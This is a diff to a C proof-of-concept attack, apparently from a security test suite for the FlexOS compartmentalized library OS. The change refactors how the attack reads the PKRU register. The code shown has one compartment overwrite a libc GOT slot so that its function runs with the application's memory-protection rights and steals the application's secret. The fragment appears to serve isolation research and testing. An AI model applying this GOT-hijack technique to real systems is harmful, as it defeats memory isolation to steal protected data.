@@ -17,15 +17,8 @@
 #include <flexos/flexos.h>
 
 #include "attacklib.h"
+#include "evil.h"
 #include "gotlibc.h"
-
-static inline uint32_t rdpkru(void)
-{
-	uint32_t pkru, edx;
-
-	__asm__ volatile(".byte 0x0f, 0x01, 0xee" : "=a"(pkru), "=d"(edx) : "c"(0));
-	return pkru;
-}
 
 /* What lib1 knows and keeps: shared, since its code runs with app's PKRU too. */
 static struct {
@@ -58,7 +51,7 @@ static uintptr_t *puts_first_slot(void)
 /* lib1's code in the slot: with app's PKRU, it takes app's secret. */
 static size_t lib1_strlen(const char *s)
 {
-	uint32_t pkru = rdpkru();
+	uint32_t pkru = flexos__mpk_rdpkru();
 
 	if (!g.done && pkru == g.app_pkru) {
 		g.stolen = *(volatile long *)g.secret;
@@ -92,7 +85,7 @@ int got_libc(uintptr_t app_secret)
 	long r = 0;
 
 	g.secret = app_secret;
-	g.app_pkru = rdpkru();
+	g.app_pkru = flexos__mpk_rdpkru();
 	flexos_gate_r(lib1, r, lib1_call, arm_in_lib1, 0);
 	if (r != 1) {
 		printf("got-libc: lib1 found no slot\n");
